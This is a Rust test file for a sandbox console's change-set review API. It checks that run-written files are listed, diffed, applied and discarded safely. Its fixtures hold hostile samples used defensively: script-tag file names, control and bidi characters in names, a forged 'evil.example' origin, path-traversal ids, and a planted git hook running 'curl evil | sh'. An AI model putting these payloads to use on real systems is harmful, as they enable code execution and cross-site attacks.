#![allow(clippy::disallowed_methods)] // fixtures are built with std::fs
//! The Changes view over real HTTP: change sets made by hand the way a contained run
//! leaves them (a `ChangeSet` in a temporary base, files written into its layer's upper
//! directory), listed, shown with their diffs as JSON text, applied and discarded through
//! the guarded POST path, and refused for unknown ids and running runs.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test harness code

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use cordon_sandbox::ChangeSet;
use cordon_store::Store;
use cordon_ui::{ChangePlaces, Console, Places, UiOptions};
use serde_json::{Value, json};

/// A file name and content a hostile run could leave, both of which read as markup.
const SCRIPT_NAME: &str = "<script>alert(1)</script>.txt";
const SCRIPT_TEXT: &str = "<script>alert(2)</script>\n";

struct Running {
    dir: tempfile::TempDir,
    addr: SocketAddr,
    token: String,
    cookie: String,
    csrf: String,
}

impl Running {
    fn base(&self) -> PathBuf {
        self.dir.path().join("changes")
    }

    /// The workspace root the sets write to, with one file the host had before.
    fn root(&self) -> PathBuf {
        self.dir.path().join("ws")
    }

    fn audit(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("audit.jsonl")).unwrap_or_default()
    }

    fn get(&self, path: &str) -> Reply {
        request(self.addr, "GET", path, &[("cookie", &self.cookie)], "")
    }

    /// A POST the console's own page would send.
    fn post(&self, path: &str, body: &Value) -> Reply {
        let origin = format!("http://{}", self.addr);
        request(
            self.addr,
            "POST",
            path,
            &[
                ("cookie", &self.cookie),
                ("origin", &origin),
                ("x-cordon-csrf", &self.csrf),
                ("content-type", "application/json"),
            ],
            &body.to_string(),
        )
    }

    /// A set over the workspace, as a run leaves it: `files` written into its upper
    /// layer (a name ending in `/` is a directory). Returned still locked, as while its
    /// run goes on; drop it to leave it as a killed run does.
    fn make_set(&self, files: &[(&str, &str)]) -> ChangeSet {
        let set = ChangeSet::create(
            &self.base(),
            &[self.root()],
            &[],
            &["make".to_string(), "<b>all</b>".to_string()],
        )
        .unwrap();
        let upper = &set.layers()[0].upper;
        for (name, content) in files {
            let path = upper.join(name);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, content).unwrap();
        }
        set
    }

    fn ids(&self) -> Vec<String> {
        let list = self.get("/api/changes").json();
        list["sets"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s["id"].as_str().unwrap().to_string())
            .collect()
    }
}

fn start() -> Running {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store.sqlite3");
    let audit = dir.path().join("audit.jsonl");
    let root = dir.path().join("ws");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::create_dir_all(dir.path().join("home")).unwrap();
    // Written before any set is made: the host's version from before the run.
    std::fs::write(root.join("main.rs"), "fn main() {}\n").unwrap();
    Store::open(&store).unwrap();
    let console = Console::bind(UiOptions {
        listen: "127.0.0.1:0".parse().unwrap(),
        dangerously_listen_non_loopback: false,
        places: Places {
            store,
            shared: None,
            audit,
            changes: ChangePlaces {
                bases: vec![dir.path().join("changes")],
                home: dir.path().join("home"),
            },
        },
        loader: Arc::new(|_| Err("no policy in this test".to_string())),
    })
    .unwrap();
    let addr = console.addr();
    let token = console.token().to_string();
    std::thread::spawn(move || console.serve());
    let mut r = Running {
        dir,
        addr,
        token,
        cookie: String::new(),
        csrf: String::new(),
    };
    let login = request(addr, "GET", &format!("/?token={}", r.token), &[], "");
    assert_eq!(login.status, 303, "{}", login.head);
    r.cookie = login
        .header("set-cookie")
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    r.csrf = r.get("/api/state").json()["csrf"]
        .as_str()
        .unwrap()
        .to_string();
    r
}

struct Reply {
    status: u16,
    head: String,
    body: String,
}

impl Reply {
    fn header(&self, name: &str) -> Option<String> {
        self.head.lines().find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.eq_ignore_ascii_case(name).then(|| v.trim().to_string())
        })
    }

    fn json(&self) -> Value {
        serde_json::from_str(&self.body)
            .unwrap_or_else(|e| panic!("{e}: {} {}", self.status, self.body))
    }
}

fn request(
    addr: SocketAddr,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> Reply {
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let mut req = format!(
        "{method} {path} HTTP/1.1\r\nconnection: close\r\nhost: {addr}\r\ncontent-length: {}\r\n",
        body.len()
    );
    for (k, v) in headers {
        req.push_str(&format!("{k}: {v}\r\n"));
    }
    req.push_str("\r\n");
    req.push_str(body);
    s.write_all(req.as_bytes()).unwrap();
    let mut raw = Vec::new();
    s.read_to_end(&mut raw).unwrap();
    let raw = String::from_utf8_lossy(&raw).into_owned();
    let (head, body) = raw.split_once("\r\n\r\n").unwrap_or((&raw, ""));
    let status = head.split(' ').nth(1).unwrap().parse().unwrap();
    Reply {
        status,
        head: head.to_string(),
        body: body.to_string(),
    }
}

fn entry<'a>(detail: &'a Value, path: &Path) -> &'a Value {
    let path = path.to_str().unwrap();
    detail["entries"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["path"] == path)
        .unwrap_or_else(|| panic!("no entry for {path} in {detail}"))
}

#[test]
fn a_held_set_is_listed_and_shown_with_its_diff_as_json_text() {
    let r = start();
    let mut set = r.make_set(&[
        ("main.rs", "fn main() { println!(\"hi\"); }\n"),
        (SCRIPT_NAME, SCRIPT_TEXT),
        ("bad\nname\u{1b}[2J\u{202e}.txt", "x\n"),
    ]);
    set.mark_held().unwrap();
    let id = set.dir().file_name().unwrap().to_str().unwrap().to_string();
    drop(set);

    let list = r.get("/api/changes");
    assert_eq!(list.status, 200, "{}", list.body);
    let list = list.json();
    assert_eq!(list["running"], 0);
    let s = &list["sets"][0];
    assert_eq!(s["id"], id.as_str());
    assert_eq!(s["state"], "held");
    assert_eq!(s["command"], json!(["make", "<b>all</b>"]));
    assert_eq!(s["roots"], json!([r.root().to_str().unwrap()]));
    // The `/` in the name makes a directory `<script>alert(1)<` too.
    assert_eq!(s["changes"], 4, "{s}");
    assert!(
        s["why"][0].as_str().unwrap().starts_with("held whole"),
        "{s}"
    );

    let detail = r.get(&format!("/api/changes/{id}"));
    assert_eq!(detail.status, 200, "{}", detail.body);
    assert_eq!(
        detail.header("content-type").as_deref(),
        Some("application/json")
    );
    assert_eq!(
        detail.header("x-content-type-options").as_deref(),
        Some("nosniff")
    );
    // Nothing the run wrote comes back as markup, not even inside JSON strings...
    assert!(!detail.body.contains('<'), "{}", detail.body);
    // ...yet the JSON text is exactly what it wrote.
    let detail = detail.json();
    assert_eq!(detail["diffs"], true);
    let modified = entry(&detail, &r.root().join("main.rs"));
    assert_eq!(modified["change"], "modify");
    let diff = modified["diff"].as_str().unwrap();
    assert!(diff.contains("-fn main() {}"), "{diff}");
    assert!(diff.contains("+fn main() { println!(\"hi\"); }"), "{diff}");
    let script = entry(&detail, &r.root().join(SCRIPT_NAME));
    assert_eq!(script["change"], "add");
    assert!(
        script["diff"]
            .as_str()
            .unwrap()
            .contains("+<script>alert(2)</script>"),
        "{script}"
    );
    // Controls and a bidirectional override in a name are shown, not obeyed.
    let shown = r.root().join("bad\\nname\\u{1b}[2J\\u{202e}.txt");
    let bad = entry(&detail, &shown);
    // Nor does the name's newline forge a line of the diff.
    assert_eq!(
        bad["diff"],
        "--- a/bad\\nname\\u{1b}[2J\\u{202e}.txt\n+++ b/bad\\nname\\u{1b}[2J\\u{202e}.txt\n@@ -0,0 +1 @@\n+x"
    );
}

#[test]
fn actions_without_the_token_the_origin_or_the_csrf_header_change_nothing() {
    let r = start();
    let id = {
        let set = r.make_set(&[("new.txt", "new\n")]);
        set.dir().file_name().unwrap().to_str().unwrap().to_string()
    };
    let body = json!({"id": id}).to_string();
    let own = format!("http://{}", r.addr);
    for path in ["/api/changes/apply", "/api/changes/discard"] {
        for (headers, status) in [
            (
                vec![("origin", own.as_str()), ("x-cordon-csrf", &r.csrf)],
                401,
            ),
            (
                vec![
                    ("cookie", r.cookie.as_str()),
                    ("origin", "http://evil.example"),
                    ("x-cordon-csrf", &r.csrf),
                ],
                403,
            ),
            (
                vec![
                    ("cookie", r.cookie.as_str()),
                    ("origin", own.as_str()),
                    ("sec-fetch-site", "cross-site"),
                    ("x-cordon-csrf", &r.csrf),
                ],
                403,
            ),
            (
                vec![("cookie", r.cookie.as_str()), ("origin", own.as_str())],
                403,
            ),
            (
                vec![
                    ("cookie", r.cookie.as_str()),
                    ("origin", own.as_str()),
                    ("x-cordon-csrf", &"0".repeat(64)),
                ],
                403,
            ),
        ] {
            let reply = request(r.addr, "POST", path, &headers, &body);
            assert_eq!(reply.status, status, "{path} {headers:?}: {}", reply.body);
        }
    }
    assert_eq!(r.ids(), vec![id]);
    assert!(!r.root().join("new.txt").exists());
    assert_eq!(r.audit(), "");
}

#[test]
fn apply_lands_the_files_keeps_refused_ones_out_and_removes_the_set() {
    let r = start();
    let id = {
        let set = r.make_set(&[
            ("main.rs", "fn main() { run() }\n"),
            ("src/lib.rs", "pub fn run() {}\n"),
            (".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n"),
        ]);
        set.dir().file_name().unwrap().to_str().unwrap().to_string()
    };
    let detail = r.get(&format!("/api/changes/{id}")).json();
    let hook = entry(&detail, &r.root().join(".git/hooks/pre-commit"));
    assert!(hook["refused"].is_string(), "{hook}");

    let reply = r.post("/api/changes/apply", &json!({"id": id}));
    assert_eq!(reply.status, 200, "{}", reply.body);
    let out = reply.json();
    assert_eq!(out["left"], false);
    let message = out["message"].as_str().unwrap();
    assert!(message.contains("1 refused"), "{message}");
    assert!(message.contains("the set is removed"), "{message}");
    let root = &out["roots"][0];
    let landed: Vec<&str> = root["landed"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["path"].as_str().unwrap())
        .collect();
    let main = r.root().join("main.rs");
    assert!(landed.contains(&main.to_str().unwrap()), "{root}");
    assert_eq!(
        root["refused"][0]["path"],
        r.root().join(".git/hooks/pre-commit").to_str().unwrap()
    );

    assert_eq!(
        std::fs::read_to_string(&main).unwrap(),
        "fn main() { run() }\n"
    );
    assert_eq!(
        std::fs::read_to_string(r.root().join("src/lib.rs")).unwrap(),
        "pub fn run() {}\n"
    );
    assert!(!r.root().join(".git/hooks/pre-commit").exists());
    assert!(r.ids().is_empty());
    assert!(!r.base().join(&id).exists());
    let audit = r.audit();
    assert!(audit.contains("\"event\":\"changes-applied\""), "{audit}");
    assert!(audit.contains("\"answered_by\":\"console\""), "{audit}");

    // An apply is spent: the same request again finds no set.
    let again = r.post("/api/changes/apply", &json!({"id": id}));
    assert_eq!(again.status, 404, "{}", again.body);
}

#[test]
fn a_conflict_keeps_the_hosts_version_until_applied_overwriting() {
    let r = start();
    let set = r.make_set(&[("main.rs", "fn main() { run() }\n")]);
    // The host changes the same file while the run goes on.
    std::thread::sleep(Duration::from_millis(20));
    std::fs::write(r.root().join("main.rs"), "fn main() { host() }\n").unwrap();
    let id = set.dir().file_name().unwrap().to_str().unwrap().to_string();
    drop(set);

    let s = r.get("/api/changes").json()["sets"][0].clone();
    assert_eq!(s["state"], "held");
    assert_eq!(s["conflicts"], 1, "{s}");
    let why = s["why"].to_string();
    assert!(why.contains("1 conflict"), "{why}");

    let out = r.post("/api/changes/apply", &json!({"id": id})).json();
    assert_eq!(out["left"], true, "{out}");
    assert!(
        out["message"]
            .as_str()
            .unwrap()
            .contains("Apply, overwriting conflicts"),
        "{out}"
    );
    assert_eq!(out["roots"][0]["conflicts"].as_array().unwrap().len(), 1);
    let main = r.root().join("main.rs");
    assert_eq!(
        std::fs::read_to_string(&main).unwrap(),
        "fn main() { host() }\n"
    );
    assert_eq!(r.ids(), vec![id.clone()]);

    let bad = r.post("/api/changes/apply", &json!({"id": id, "overwrite": "yes"}));
    assert_eq!(bad.status, 400, "{}", bad.body);
    let out = r
        .post("/api/changes/apply", &json!({"id": id, "overwrite": true}))
        .json();
    assert_eq!(out["left"], false, "{out}");
    assert_eq!(
        std::fs::read_to_string(&main).unwrap(),
        "fn main() { run() }\n"
    );
    assert!(r.ids().is_empty());
}

#[test]
fn discard_removes_the_set_and_lands_nothing() {
    let r = start();
    let id = {
        let set = r.make_set(&[("new.txt", "new\n")]);
        set.dir().file_name().unwrap().to_str().unwrap().to_string()
    };
    let reply = r.post("/api/changes/discard", &json!({"id": id}));
    assert_eq!(reply.status, 200, "{}", reply.body);
    assert!(
        reply.json()["message"]
            .as_str()
            .unwrap()
            .contains("nothing of it landed")
    );
    assert!(!r.root().join("new.txt").exists());
    assert!(!r.base().join(&id).exists());
    assert!(r.ids().is_empty());
    assert!(r.audit().contains("\"event\":\"changes-discarded\""));
}

#[test]
fn unknown_ids_and_paths_are_refused() {
    let r = start();
    let id = {
        let set = r.make_set(&[("new.txt", "new\n")]);
        set.dir().file_name().unwrap().to_str().unwrap().to_string()
    };
    // A directory beside the base that looks like a set must not be reachable by name.
    let outside = r.dir.path().join("elsewhere");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::set_permissions(&outside, std::fs::Permissions::from_mode(0o700)).unwrap();
    for path in [
        "/api/changes/nope",
        "/api/changes/..%2Felsewhere",
        "/api/changes/../elsewhere",
        "/api/changes/",
        &format!("/api/changes/{id}/"),
    ] {
        let reply = r.get(path);
        assert!(
            reply.status == 404 || reply.status == 400,
            "{path}: {} {}",
            reply.status,
            reply.body
        );
    }
    for id in [
        json!("nope"),
        json!("../elsewhere"),
        json!(outside),
        json!(""),
    ] {
        for action in ["apply", "discard"] {
            let reply = r.post(&format!("/api/changes/{action}"), &json!({"id": id}));
            assert_eq!(reply.status, 404, "{action} {id}: {}", reply.body);
        }
    }
    for body in [json!({}), json!({"id": 7}), json!({"id": [id]})] {
        let reply = r.post("/api/changes/apply", &body);
        assert_eq!(reply.status, 400, "{body}: {}", reply.body);
    }
    assert!(outside.exists());
    assert_eq!(r.ids(), vec![id]);
}

#[test]
fn a_set_whose_run_still_goes_is_refused() {
    let r = start();
    let set = r.make_set(&[("new.txt", "new\n")]);
    let id = set.dir().file_name().unwrap().to_str().unwrap().to_string();

    let list = r.get("/api/changes").json();
    assert_eq!(list["running"], 1);
    assert!(list["sets"].as_array().unwrap().is_empty(), "{list}");
    let detail = r.get(&format!("/api/changes/{id}"));
    assert_eq!(detail.status, 409, "{}", detail.body);
    for action in ["apply", "discard"] {
        let reply = r.post(&format!("/api/changes/{action}"), &json!({"id": id}));
        assert_eq!(reply.status, 409, "{}", reply.body);
        let why = reply.json()["error"].as_str().unwrap().to_string();
        assert!(why.contains("still going"), "{why}");
    }
    assert!(!r.root().join("new.txt").exists());
    assert!(set.dir().exists());
    drop(set);
    assert_eq!(r.ids(), vec![id]);
}
